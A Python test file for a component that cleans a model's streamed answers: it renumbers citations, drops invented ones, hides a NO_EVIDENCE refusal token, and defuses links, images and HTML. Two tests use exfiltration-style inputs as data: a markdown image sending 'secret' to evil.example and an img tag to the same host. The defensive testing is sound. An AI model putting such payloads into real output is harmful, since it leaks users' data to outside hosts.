"""What readers see of a model's stream."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lorebase.services.answer_text import NO_EVIDENCE, AnswerText


def shown(pieces: list[str], passages: int = 3) -> tuple[list[str], AnswerText]:
    text = AnswerText(passages)
    return [*(text.feed(piece) for piece in pieces), text.end()], text


def whole(model_text: str, passages: int = 3) -> str:
    return shown([model_text], passages)[1].text


PIECES = st.lists(
    st.one_of(
        st.text(max_size=8),
        st.sampled_from(
            ["[1]", "[", "2", "]", "[9]", "[1, 3]", "NO_", "EVIDENCE", "N", "<img ", "![x]", "(http", "]("]
        ),
    ),
    max_size=30,
)


@given(PIECES)
def test_the_pieces_shown_are_the_text_however_the_stream_was_cut(pieces: list[str]) -> None:
    parts, text = shown(pieces)
    assert "".join(parts) == text.text
    assert text.text == whole("".join(pieces))


@given(PIECES)
def test_nothing_that_fetches_or_commands_ever_shows(pieces: list[str]) -> None:
    text = shown(pieces)[1].text
    assert NO_EVIDENCE not in text
    assert "](" not in text
    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", text)


@given(PIECES, st.integers(0, 3))
def test_every_marker_in_the_text_names_a_passage_that_was_given(pieces: list[str], passages: int) -> None:
    _, text = shown(pieces, passages)
    assert all(1 <= passage <= passages for passage in text.cited)
    assert len(set(text.cited)) == len(text.cited)


def test_plain_text_is_not_held_back() -> None:
    parts, _ = shown(["Call", " cancel", " on it."])
    assert parts == ["Call", " cancel", " on it.", ""]


def test_markers_are_numbered_in_order_of_first_use() -> None:
    _, text = shown(["One [3]. Two [1]. Again [3]."])
    assert text.text == "One [1]. Two [2]. Again [1]."
    assert text.cited == [3, 1]


def test_several_numbers_in_one_marker_become_several_markers() -> None:
    assert whole("So it is [2, 3].") == "So it is [1][2]."


@pytest.mark.parametrize("invented", ["So [9].", "So [0].", "So [4, 77]."])
def test_a_marker_of_no_passage_disappears_with_its_space(invented: str) -> None:
    assert whole(invented) == "So."


def test_a_valid_number_survives_beside_an_invented_one() -> None:
    assert whole("So [9, 2].") == "So [1]."


def test_a_marker_cut_over_pieces_is_shown_whole() -> None:
    parts, text = shown(["So", " [", "2", "]", ". Yes"])
    assert text.text == "So [1]. Yes"
    assert all(part.count("[") == part.count("]") for part in parts)


def test_brackets_that_are_no_markers_stay() -> None:
    assert whole("a[i] and [note] and x[10000]") == "a[i] and [note] and x[10000]"


@pytest.mark.parametrize(
    "pieces",
    [[NO_EVIDENCE], ["NO_", "EVID", "ENCE"], [" \n", "NO_EVIDENCE", "."], ["N", "O_EVIDENCE", " sorry"]],
)
def test_the_control_token_is_a_refusal_and_never_shown(pieces: list[str]) -> None:
    parts, text = shown(pieces)
    assert "".join(parts) == ""
    assert text.is_refusal


def test_words_that_begin_like_the_token_are_shown() -> None:
    _, text = shown(["NO", "_EVID", "ent reason. No"])
    assert text.text == "NO_EVIDent reason. No"
    assert not text.is_refusal


@pytest.mark.parametrize("pieces", [[], [""], [" ", "\n"]])
def test_an_empty_answer_is_a_refusal(pieces: list[str]) -> None:
    assert shown(pieces)[1].is_refusal


def test_images_and_links_are_broken_up() -> None:
    text = whole("See ![leak](https://evil.example/?q=secret) and [here](http://x).")
    assert "](" not in text
    assert "leak" in text


def test_html_is_shown_as_text() -> None:
    assert whole('<img src="https://evil.example/x">') == '\\<img src="https://evil.example/x">'
    assert whole("1 < 2 and a <- b") == "1 < 2 and a <- b"
